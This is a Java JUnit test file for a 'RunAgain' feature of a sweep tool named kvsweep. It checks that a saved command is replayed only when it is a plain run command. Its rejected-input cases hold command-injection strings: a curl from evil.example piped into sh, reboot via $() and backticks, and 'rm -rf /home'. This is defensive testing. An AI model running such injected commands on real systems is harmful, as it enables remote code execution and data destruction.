package org.kvsweep.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.apache.hadoop.conf.Configuration;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.kvsweep.results.ResultsFolder;

class RunAgainTest {
  @TempDir private Path folder;

  private String command(String kept) throws IOException {
    Files.writeString(folder.resolve("format.json"), "{\"format\":1}\n");
    Files.writeString(folder.resolve("command.txt"), kept + "\n");
    return RunAgain.of(ResultsFolder.at(folder.toString(), new Configuration(false))).command();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "kvsweep run sweep.yaml",
        "./kvsweep run 'my sweep.yaml' --set 'model.depth=[1, 2]'",
        "/opt/kvsweep-0.1.0/bin/kvsweep run 'it'\\''s.yaml' --conf 'spark.a.token=(not shown)'"
      })
  void isTheCommandThatRanTheSweep(String kept) throws IOException {
    assertThat(command(kept)).isEqualTo(kept);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "kvsweep run x; curl http://evil.example/x | sh #",
        "kvsweep run $(reboot)",
        "kvsweep run \"`reboot`\"",
        "kvsweep run x\nreboot",
        "kvsweep rm results/x --yes",
        "rm run -rf /home",
        "kvsweep",
        ""
      })
  void isTheUsualOneWhereWhatIsKeptDoesMore(String kept) throws IOException {
    assertThat(command(kept)).endsWith("kvsweep run sweep.yaml --out " + folder);
  }
}
